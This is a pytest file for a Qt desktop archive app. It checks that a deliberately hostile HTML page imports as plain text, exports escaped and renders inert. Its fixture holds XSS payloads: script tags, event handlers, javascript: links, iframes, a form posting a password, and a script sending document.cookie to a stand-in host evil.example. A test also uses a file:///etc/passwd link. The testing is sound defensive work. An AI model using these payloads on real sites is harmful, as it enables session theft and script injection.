"""A hostile page does nothing: it imports as plain text, exports escaped, and the reading pane shows it
as text, loads nothing and opens only http(s) links, on a click, in the system browser.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from PySide6.QtCore import QByteArray, QSize, QUrl
from PySide6.QtGui import QDesktopServices, QImage, QPixmap, QTextDocument
from PySide6.QtWidgets import QTextBrowser
from pytestqt.qtbot import QtBot
from selectolax.lexbor import LexborHTMLParser, LexborNode

from press_archive.archive import Archive
from press_archive.exporters import IdSelection, export_items
from press_archive.model import Annotation, Item
from press_archive.ui.detail_pane import DetailPane
from press_archive.ui.item_detail import ItemDetail

# The canonical link is the item's own URL, quotes and all: it must stay one attribute value.
OWN_URL = 'https://en.odkb-csto.org/news/1/?q="><script>alert(9)</script>'
HOSTILE_PAGE = """<!DOCTYPE html>
<html lang="en"><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=http://evil.example/">
<base href="http://evil.example/">
<link rel="canonical" href='""" + OWN_URL + """'>
<link rel="stylesheet" href="http://evil.example/s.css">
<style>@import url("http://evil.example/track.css");
body { background: url(http://evil.example/bg.png) }</style>
<script>document.location = "http://evil.example/steal?c=" + document.cookie</script>
</head>
<body onload="alert('body')">
<div class="news-item"><div class="news-date">05.12.2025</div>
<p onclick="alert('p')" style="background:url(http://evil.example/p.png)">The CSTO delegation met in Minsk
<img src="http://evil.example/pixel.gif" onerror="alert('img')"> to discuss
<a href="javascript:alert('link')" onmouseover="alert('over')">border security</a>.<iframe
src="http://evil.example/frame"></iframe></p>
<p>Quoted markup stays text: &lt;script&gt;alert('entity')&lt;/script&gt;
and &lt;img src=x onerror=alert(1)&gt;.</p>
</div>
<div class="news-item"><div class="news-date">04.12.2025</div><p>A second delegation arrived in Yerevan<object
data="http://evil.example/x.swf"><embed src="http://evil.example/e.swf"></object><svg onload="alert(2)">
<script>alert(3)</script></svg> for talks.</p></div>
<form action="http://evil.example/post"><input name="password"><button>Send</button></form>
</body></html>
"""
QUOTED_MARKUP = "Quoted markup stays text: <script>alert('entity')</script> and <img src=x onerror=alert(1)>."
EXPECTED_BODIES = {
    ("The CSTO delegation met in Minsk to discuss border security.", QUOTED_MARKUP),
    ("A second delegation arrived in Yerevan for talks.",),
}
HOSTILE_NOTE = "My note <script>alert('note')</script> <img src=http://evil.example/n.png>"
HOSTILE_TAG = "<b onmouseover=alert(1)>tag</b>"
ACTIVE_ELEMENTS = (
    "script, iframe, img, object, embed, svg, link, base, form, input, meta[http-equiv], video, audio"
)


@pytest.fixture
def hostile(archive: Archive, tmp_path: Path) -> tuple[Archive, list[Item]]:
    page = tmp_path / "hostile.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    assert archive.import_paths([page]).ok
    items = [archive.item(hit.item_id) for hit in archive.search("").hits]
    archive.user.set_note(items[0].id, HOSTILE_NOTE)
    archive.user.tag([item.id for item in items], HOSTILE_TAG)
    return archive, items


def test_a_hostile_page_imports_as_plain_text(hostile: tuple[Archive, list[Item]]) -> None:
    _archive, items = hostile
    assert {item.body for item in items} == EXPECTED_BODIES
    for item in items:
        assert "evil.example" not in item.title + item.text
        assert [sighting.url for sighting in item.sightings] == [OWN_URL]


def _external_references(tree: LexborHTMLParser) -> list[str]:
    """Every href and src that leads out of the document."""
    return [
        value or ""
        for node in tree.css("[href], [src]")
        for name, value in node.attributes.items()
        if name in ("href", "src") and not (value or "").startswith("#")
    ]


def _event_handlers(node: LexborNode) -> list[str]:
    return [name for name in node.attributes if name.lower().startswith("on")]


def _assert_inert(markup: str) -> LexborHTMLParser:
    """No element that runs or loads anything, and no link but the item's own URL."""
    tree = LexborHTMLParser(markup)
    assert tree.css(ACTIVE_ELEMENTS) == []
    assert [handler for node in tree.css("*") for handler in _event_handlers(node)] == []
    assert set(_external_references(tree)) <= {OWN_URL}
    for style in tree.css("style"):
        assert "@import" not in style.text() and "url(" not in style.text()
    assert all(not (node.attributes.get("style") or "") for node in tree.css("[style]"))
    return tree


def test_the_html_export_escapes_everything(hostile: tuple[Archive, list[Item]], tmp_path: Path) -> None:
    archive, items = hostile
    target = tmp_path / "report.html"

    export_items(archive, IdSelection(tuple(item.id for item in items)), "html", target, with_user_data=True)

    tree = _assert_inert(target.read_text(encoding="utf-8"))
    assert _external_references(tree) == [OWN_URL] * len(items)  # as a plain link
    shown = tree.body.text() if tree.body else ""
    for text in (QUOTED_MARKUP, HOSTILE_NOTE, HOSTILE_TAG, OWN_URL):
        assert text in shown


def test_the_markdown_export_renders_inert(hostile: tuple[Archive, list[Item]], tmp_path: Path) -> None:
    """Note apps render HTML inside Markdown: the page's text must not become any."""
    archive, items = hostile
    target = tmp_path / "items.md"

    export_items(archive, IdSelection(tuple(item.id for item in items)), "markdown", target)

    rendered = MarkdownIt("commonmark").render(target.read_text(encoding="utf-8"))  # raw HTML allowed
    tree = _assert_inert(rendered)
    assert QUOTED_MARKUP in (tree.body.text() if tree.body else "")


def _detail(item: Item) -> ItemDetail:
    return ItemDetail(item, "", False, (), tuple(() for _ in item.body), Annotation(item.id))


def _anchors_and_images(document: QTextDocument) -> tuple[set[str], int]:
    anchors: set[str] = set()
    images = 0
    block = document.begin()
    while block.isValid():
        iterator = block.begin()
        while not iterator.atEnd():
            text_format = iterator.fragment().charFormat()
            if text_format.isAnchor():
                anchors.add(text_format.anchorHref())
            images += text_format.isImageFormat()
            iterator += 1
        block = block.next()
    return anchors, images


def test_the_reading_pane_shows_the_page_as_text_and_links_only_its_own_url(
    qtbot: QtBot, hostile: tuple[Archive, list[Item]]
) -> None:
    _archive, items = hostile
    pane = DetailPane()
    qtbot.addWidget(pane)
    [item] = [item for item in items if QUOTED_MARKUP in item.body]

    pane.show_detail(_detail(item))

    assert QUOTED_MARKUP in pane.browser.toPlainText()
    assert OWN_URL in pane.browser.toPlainText()
    assert _anchors_and_images(pane.browser.document()) == ({OWN_URL}, 0)
    assert not pane.browser.openLinks() and not pane.browser.openExternalLinks()


IMAGE_SIZE = QSize(3, 2)


def _is_the_image(resource: object) -> bool:
    """Whether a document's resource is the image file the markup pointed at (by its odd size)."""
    if isinstance(resource, QByteArray | bytes):
        resource = QImage.fromData(resource)
    return isinstance(resource, QPixmap | QImage) and resource.size() == IMAGE_SIZE


def test_the_reading_pane_loads_no_resource_even_if_markup_got_through(qtbot: QtBot, tmp_path: Path) -> None:
    local_image = tmp_path / "pixel.png"
    assert QImage(IMAGE_SIZE, QImage.Format.Format_RGB32).save(str(local_image))
    embedded = "data:image/png;base64," + base64.b64encode(local_image.read_bytes()).decode()
    sources = [QUrl("http://evil.example/pixel.gif"), QUrl.fromLocalFile(str(local_image)), QUrl(embedded)]
    markup = "".join(f'<img src="{url.toString()}">' for url in sources)
    image = QTextDocument.ResourceType.ImageResource.value
    stock = QTextBrowser()
    qtbot.addWidget(stock)
    stock.setHtml(markup)
    assert [_is_the_image(stock.document().resource(image, url)) for url in sources] == [False, True, True]
    pane = DetailPane()
    qtbot.addWidget(pane)

    pane.browser.setHtml(markup)

    assert [_is_the_image(pane.browser.document().resource(image, url)) for url in sources] == [False] * 3


@pytest.mark.parametrize(
    ("link", "opened"),
    [
        ("https://en.odkb-csto.org/news/1/", True),
        ("http://en.odkb-csto.org/news/1/", True),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("ftp://evil.example/x", False),
    ],
)
def test_a_clicked_link_opens_in_the_system_browser_only_if_it_is_http(
    qtbot: QtBot, monkeypatch: pytest.MonkeyPatch, link: str, opened: bool
) -> None:
    pane = DetailPane()
    qtbot.addWidget(pane)
    asked: list[QUrl] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", asked.append)

    pane.browser.anchorClicked.emit(QUrl(link))

    assert asked == ([QUrl(link)] if opened else [])


def test_an_item_link_opens_the_item_in_the_window_not_the_browser(
    qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    pane = DetailPane()
    qtbot.addWidget(pane)
    asked: list[QUrl] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", asked.append)

    with qtbot.waitSignal(pane.item_link_clicked) as clicked:
        pane.browser.anchorClicked.emit(QUrl("item:0123456789abcdef"))

    assert clicked.args == ["0123456789abcdef"] and asked == []
